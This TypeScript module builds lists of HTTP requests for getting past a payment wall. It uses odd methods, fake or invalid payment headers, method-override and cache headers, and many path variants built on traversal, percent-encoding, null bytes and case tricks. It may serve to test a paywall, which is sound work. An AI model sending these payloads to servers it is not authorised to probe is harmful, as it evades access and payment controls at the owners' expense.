import type {Request} from './web.ts';

/** A request for a paid path without payment. */
export type Attempt = Omit<Request, 'maxBytes'>;

const METHODS = ['HEAD', 'OPTIONS', 'POST', 'PATCH', 'TRACE', 'PROPFIND', 'GETX'];

// The payment headers are invalid: base64 of `{}`, and of an unknown version.
const HEADERS: readonly Readonly<Record<string, string>>[] = [
  {Range: 'bytes=0-0'},
  {'If-None-Match': '*'},
  {'If-Modified-Since': 'Fri, 01 Jan 2100 00:00:00 GMT'},
  {'PAYMENT-SIGNATURE': 'e30='},
  {'X-PAYMENT': 'eyJ4NDAyVmVyc2lvbiI6MX0='},
  {'X-HTTP-Method-Override': 'HEAD'},
  {Accept: 'text/html', 'User-Agent': 'Mozilla/5.0 (compatible)'},
];

/** Returns spellings, methods and headers that have bypassed paywalls. The methods are safe on any server: no `PUT`, no `DELETE`. */
export function attemptsAt(path: string, origin: string): Attempt[] {
  const targets = [path, ...misspellings(path), origin + path];
  return [
    ...METHODS.map(method => ({method, target: path})),
    ...HEADERS.map(headers => ({target: path, headers})),
    ...targets.slice(1).map(target => ({target})),
    ...targets.slice(1, 6).map(target => ({method: 'HEAD', target})),
  ];
}

function misspellings(path: string): string[] {
  const name = path.slice(path.lastIndexOf('/') + 1);
  const encoded = (text: string) => Array.from(text, letter => `%${letter.charCodeAt(0).toString(16)}`).join('');
  const first = encoded(name.slice(0, 1)) + name.slice(1);
  return [
    `/api/v1/${first}`,
    `/api/v1//${name}`,
    `/api/v1/samples/..%2f${name}`,
    `/api/v1/samples/../${name}`,
    `/api/v1/${encoded(name)}`,
    `/${path}`,
    `/api/v1/./${name}`,
    `/api/v1/%2e/${name}`,
    `/api/v1/samples/%2e%2e/${name}`,
    `/api/v1/samples/..;/${name}`,
    `/api%2fv1%2f${name}`,
    `/api/v1%2f${name}`,
    `/api/v1\\${name}`,
    `/api/v1%5c${name}`,
    `/api/v1/${first.replaceAll('%', '%25')}`,
    `/API/V1/${name.toUpperCase()}`,
    `/api/v1/${name.toUpperCase()}`,
    ...['/', '/.', '.json', '.html', '/index.html', '?', '?x=1', '?.json', '%3f', '#', '%23', ';', ';.json', '.'].map(
      ending => path + ending,
    ),
    ...['%00', '%20', '%0a', '%2f', '~', '.gz', '*'].map(ending => path + ending),
  ];
}
